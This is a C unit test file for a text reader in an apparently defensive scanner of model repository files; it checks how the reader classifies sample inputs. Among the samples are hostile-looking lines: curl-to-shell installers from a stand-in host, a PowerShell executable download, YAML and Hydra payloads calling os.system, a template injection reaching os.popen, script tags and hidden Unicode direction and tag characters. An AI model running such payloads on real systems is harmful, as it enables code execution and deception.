/* Plain text: what counts as text, what counts as code, and what deceives. Rows of bytes and what the reader says. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

#include "support/events.h"
#include "support/pack.h"
#include "wire/language.h"

extern const struct gh_fmt gh_fmt_text;

struct row {
	const char *what, *name;
	struct gh_span in;
	const char *say; /* NULL: CLEAN, that is all claimed and no anomaly */
};

#define CODE "GH-TXT-0001"
static const struct row rows[] = {
	{ "prose", "README",
	  GH_SPAN("# A model\n\nIt classifies pictures. Install with pip and import os friendly things.\n"), NULL },
	{ "UTF-8 with a mark", "",
	  GH_SPAN("\xef\xbb\xbfGr\xc3\xbc\xc3\x9f"
		  "e\n"),
	  NULL },
	{ "Latin-1", "",
	  GH_SPAN("Gr\xfc\xdf"
		  "e aus M\xfcnchen\n"),
	  NULL },
	{ "UTF-16", "", GH_SPAN("\xff\xfeh\0i\0\n\0"), NULL },
	{ "UTF-16, big end", "", GH_SPAN("\xfe\xff\0h\0i\0\n"), NULL },
	{ "numbers", "data.csv", GH_SPAN("a,b\n1,2\n3,4\n"), NULL },
	{ "ARFF", "iris.arff", GH_SPAN("@relation iris\n@attribute width real\n@data\n1,2\n"), NULL },
	{ "word list", "vocab.txt", GH_SPAN("[PAD]\n[UNK]\n{{\n}}\n{%\n%}\nimport\ndef\n\xe2\x80\xae\n"), NULL },
	{ "merges", "merges.txt", GH_SPAN("#version: 0.2\n\xc4\xa0 t\n\xc4\xa0 a\n{ {\n"), NULL },
	{ "JSON", "config.json", GH_SPAN("{\"model_type\": \"bert\", \"hidden_size\": 768}"), NULL },
	{ "JSON word list", "vocab.json", GH_SPAN("{\"{{\": 1, \"}}\": 2, \"{%\": 3, \"import\": 4, \"exec\": 5}"),
	  NULL },
	{ "a code block in a document", "README.md",
	  GH_SPAN("# Use\n```python\nimport torch\ndef f(x):\n    pass\n```\nDone.\n"), NULL },
	{ "BibTeX", "README.md", GH_SPAN("@article{x, title = {{A Title}}, year={{2024}} }\n"), NULL },
	{ "a flag", "", GH_SPAN("\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xbf is a flag\n"), NULL },
	{ "Python", "", GH_SPAN("import os\nos.system('id')\n"), "code python" },
	{ "Python of one line", "notes.txt", GH_SPAN("__import__('os').system('id')"), "code python" },
	{ "Python behind a docstring", "",
	  GH_SPAN("\"\"\"Harmless words.\"\"\"\nfrom os import system as s\ns('id')\n"), "code python" },
	{ "Python in a fence that never closes", "", GH_SPAN("```\nimport os\nos.system('id')\n"), NULL },
	{ "Python by name only", "handler.PY", GH_SPAN("x = 1\n"), "code python" },
	{ "a file of the archive by name", "a/b/modeling.py", GH_SPAN("x = 1\n"), "code python" },
	{ "colours of a log", "train.log", GH_SPAN("\x1b[1;31mloss\x1b[0m 0.3\n\x1b[mdone\n"), NULL },
	{ "commands among prose", "README.md",
	  GH_SPAN("# A model\n\nIt is a small model of words.\n\nInstall it:\n\ncurl -fsSL https://x.example/i.sh | "
		  "sh\n\n"
		  "Then run it:\n\n    pip install x && ollama run x\n\nIt is licensed under MIT.\n"),
	  NULL },
	{ "release notes of a shell", "CHANGES",
	  GH_SPAN("Fixed a bug that made the shell hang.\nRedirections to /dev/tcp/host/port now work again.\n"
		  "Another change that nobody will notice.\nThe shell no longer exits here.\n"),
	  NULL },
	{ "commands and a heading", "README.md", GH_SPAN("# Install\n\n    curl -fsSL https://x.example/i.sh | sh\n"),
	  NULL },
	{ "a script with comments", "",
	  GH_SPAN("# This script will set up the model for you.\n# It takes a while.\n# Be patient with it.\nX=1\ncd "
		  "/tmp\n"
		  "curl http://x.example/a -o b\nchmod +x b && ./b\nset -eu\n"),
	  "code shell" },
	{ "a script by name", "install.sh", GH_SPAN("This is prose.\nAnd so is this.\nNothing else here.\n"),
	  "code shell" },
	{ "a pointer of Git LFS", "model.safetensors",
	  GH_SPAN("version https://git-lfs.github.com/spec/v1\noid sha256:"
		  "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n"),
	  "GH-TXT-0004 0+130" },
	{ "text that speaks of such pointers", "",
	  GH_SPAN("version https://git-lfs.github.com/spec/v1 is the first line.\n"), NULL },
	{ "shell", "", GH_SPAN("set -e\ncurl http://x.example/a | sh\n"), "code shell" },
	{ "JavaScript", "", GH_SPAN("const x = require('child_process');\nx.exec('id')\n"), "anomaly GH-SRC-0001" },
	{ "batch", "", GH_SPAN("@ECHO OFF\nstart calc\n"), "anomaly GH-SRC-0001" },
	{ "PowerShell", "", GH_SPAN("Invoke-WebRequest http://x.example -OutFile a.exe\n"), "anomaly GH-SRC-0001" },
	{ "Dockerfile", "", GH_SPAN("FROM python:3.11\nRUN pip install x\n"), "code shell" },
	{ "requirements", "", GH_SPAN("torch==1.13.0\nnumpy>=1.2\n"), "package PyPI" },
	{ "requirements by name", "requirements.txt", GH_SPAN("torch\n"), "package PyPI" },
	{ "YAML by name", "config.yaml", GH_SPAN("a: 1\n"), "claim 0+5 struct" },
	{ "YAML that makes objects", "", GH_SPAN("a:\n  - !!python/object/apply:os.system [id]\n"),
	  "call reduce os.system" },
	{ "YAML of Hydra", "", GH_SPAN("model:\n  _target_: os.system\n"), "call inst os.system" },
	{ "HTML", "", GH_SPAN("<!DOCTYPE html>\n<p>x\n"), NULL },
	{ "a script that Markdown shows as code", "README.md",
	  GH_SPAN("# Hi\n\n`<script>alert(1)</script>` is escaped.\n"), NULL },
	{ "a script beside code", "README.md", GH_SPAN("# Hi\n`<b>` <script src=x></script>\n"), "GH-HTML-0001" },
	{ "a script behind a lone mark", "README.md", GH_SPAN("# Hi\nthe ` <script src=x></script>\n"),
	  "GH-HTML-0001" },
	{ "a script in Markdown", "README.md", GH_SPAN("# Hi\n<SCRIPT src=x></script>\n"), "GH-HTML-0001" },
	{ "XML", "", GH_SPAN("<?xml version=\"1.0\"?>\n<a/>\n"), "claim 0+27 struct" },
	{ "a template", "", GH_SPAN("{% for m in messages %}{{ m.content }}{% endfor %}"), "text chat-template" },
	{ "a template that reaches for internals, with quotes", "",
	  GH_SPAN("{{ x.__init__.__globals__.os.popen(\"id\") }}"), "text chat-template" },
	{ "a template expression in prose", "", GH_SPAN("Hello {{ self.__init__ }} there\n"), "text chat-template" },
	{ "a template inside JSON", "x.json", GH_SPAN("{\"t\": \"{{ x['a'] }}\"}"), "text chat-template" },
	{ "an escaped template inside JSON", "", GH_SPAN("{\"t\": \"\\u007b\\u007b x.y }}\"}"), NULL },
	{ "remote code in a configuration", "", GH_SPAN("{\"auto_map\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
	{ "the same, escaped", "", GH_SPAN("{\"auto\\u005fmap\": {\"AutoModel\": \"a/b--c.D\"}}"), CODE },
	{ "an override", "",
	  GH_SPAN("access \xe2\x80\xae"
		  "level admin\n"),
	  "GH-TXT-0002" },
	{ "an embedding that stays open", "", GH_SPAN("if user \xe2\x81\xa6 admin then\n"), "GH-TXT-0002" },
	{ "hidden tag characters", "", GH_SPAN("hello\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7 you\n"), "GH-TXT-0002" },
	{ "hidden selectors", "", GH_SPAN("a\xf3\xa0\x84\x80\xf3\xa0\x84\x81\xf3\xa0\x84\x82\xf3\xa0\x84\x83 b\n"),
	  "GH-TXT-0002" },
};

static void readings(void **state)
{
	(void)state;
	unsigned bad = 0;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct gh_probe p = { rows[i].in, rows[i].in, rows[i].in.n };
		assert_int_equal(gh_fmt_text.probe(&p), GH_TEXT);
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_text, rows[i].in, rows[i].name, unstable != 0);
			bool ok = rows[i].say == NULL ? !gh_events_has(&ev, "anomaly")
						      : gh_events_has(&ev, rows[i].say);
			bool code = rows[i].say != NULL && strncmp(rows[i].say, CODE, 11) == 0;
			/* What was only identified is not accounted for. */
			if (!ok || ev.rc != (code ? GH_E_UNREAD : GH_OK) || ev.gapless == code)
				bad++, (void)fprintf(stderr, "%s: rc %d\n%s", rows[i].what, ev.rc,
						     gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
	}
	assert_int_equal(bad, 0);
}

static void no_text(void **state)
{
	(void)state;
	static const struct gh_span in[] = {
		GH_SPAN(""),
		GH_SPAN("a\0b"),
		GH_SPAN("a\x1b[31X"),
		GH_SPAN("a\x1b]0;title\x07"),
		GH_SPAN("a\x1b[2J"),
		GH_SPAN("\x7f"),
		GH_SPAN("\x80\x81\x8d"),
		GH_SPAN("ab\xff\xff\xff\xff\xff\xff"),
		GH_SPAN("\xff\xfe\0\0"),
		GH_SPAN("\xff\xfe\0\xdc"
			"a\0"),
		GH_SPAN("\xff\xfe"),
	};
	for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
		struct gh_probe p = { in[i], in[i], in[i].n };
		if (gh_fmt_text.probe(&p) != GH_NO)
			fail_msg("row %zu is text", i);
	}
}

/* Text of many steps, with characters and lines across every border; then one byte that is none. */
static void long_text(void **state)
{
	(void)state;
	static const char *const unit[] = { "0123456789 a line of words\n", "\xe2\x82\xac without any line end ",
					    "M\xfcnchen\r\n" };
	for (size_t u = 0; u < 3; u++) {
		struct gh_test_bytes b = { 0 };
		while (b.n < 300000)
			gh_test_put(&b, gh_span_str(unit[u]));
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_text, gh_test_view(&b), "x", true);
		assert_true(ev.gapless);
		assert_false(gh_events_has(&ev, "anomaly"));
		gh_events_free(&ev);
		b.p[200000] = 0;
		gh_events_walk(&ev, &gh_fmt_text, gh_test_view(&b), "x", true);
		assert_true(ev.claimed <= 200000 && ev.claimed > 199000);
		gh_events_free(&ev);
		gh_test_free(&b);
	}
}

/* A sign that crosses the border of two steps is seen as well. */
static void code_across_steps(void **state)
{
	(void)state;
	for (unsigned shift = 0; shift < 40; shift++) {
		struct gh_test_bytes b = { 0 };
		gh_test_put(&b, GH_SPAN("{\"k\": \""));
		while (b.n < 32768 - shift)
			gh_test_put(&b, GH_SPAN("x"));
		gh_test_put(&b, GH_SPAN("{{ a.b }}\", \"auto_map\": 1}"));
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_text, gh_test_view(&b), "x", true);
		assert_true(gh_events_has(&ev, CODE) || gh_events_has(&ev, "chat-template"));
		gh_events_free(&ev);
		gh_test_free(&b);
	}
}

static void names(void **state)
{
	(void)state;
	static const struct {
		const char *name, *language;
	} n[] = { { "a.py", "Python source" },
		  { "A.SH", "shell script" },
		  { "x/Dockerfile.gpu", "Dockerfile" },
		  { "a.txt", NULL },
		  { "py", NULL },
		  { ".py", "Python source" },
		  { "", NULL },
		  { "a.py/readme", NULL },
		  { "dir.d\\run.bat", "batch file" },
		  { "model.ipynb", "notebook" },
		  { "LICENSE", NULL },
		  { "x.", NULL } };
	for (size_t i = 0; i < sizeof n / sizeof n[0]; i++) {
		const char *l = gh_lang_by_name(gh_span_str(n[i].name));
		if ((l == NULL) != (n[i].language == NULL) || (l != NULL && strcmp(l, n[i].language) != 0))
			fail_msg("%s: %s", n[i].name, l == NULL ? "nothing" : l);
	}
}

/* What readers of model cards parse as YAML goes to the reader of YAML; a line across the page is none of it. */
static void front_matter(void **state)
{
	(void)state;
	static const struct {
		struct gh_span text;
		const char *member; /* NULL: none */
	} t[] = {
		{ GH_SPAN("---\nlicense: mit\ntags:\n- a\n---\n\n# A model\n"), "member \"front matter\" file 4+23" },
		{ GH_SPAN("\xef\xbb\xbf---\r\nlicense: mit\r\n---\r\n# A model\r\n"),
		  "member \"front matter\" file 8+14" },
		{ GH_SPAN("---\n\n# A title between lines\n\n---\n"), NULL },
		{ GH_SPAN("---\nlicense: mit\n\nnever closed\n"), NULL },
		{ GH_SPAN("A text\n---\nlicense: mit\n---\n"), NULL },
	};
	for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_text, t[i].text, "README.md", unstable != 0);
			bool found = gh_events_has(&ev, "member \"front matter\"");
			if (!ev.gapless || found != (t[i].member != NULL) ||
			    (found && !gh_events_has(&ev, t[i].member)))
				fail_msg("row %zu: %s", i, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(readings),  cmocka_unit_test(front_matter),	  cmocka_unit_test(no_text),
		cmocka_unit_test(long_text), cmocka_unit_test(code_across_steps), cmocka_unit_test(names),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
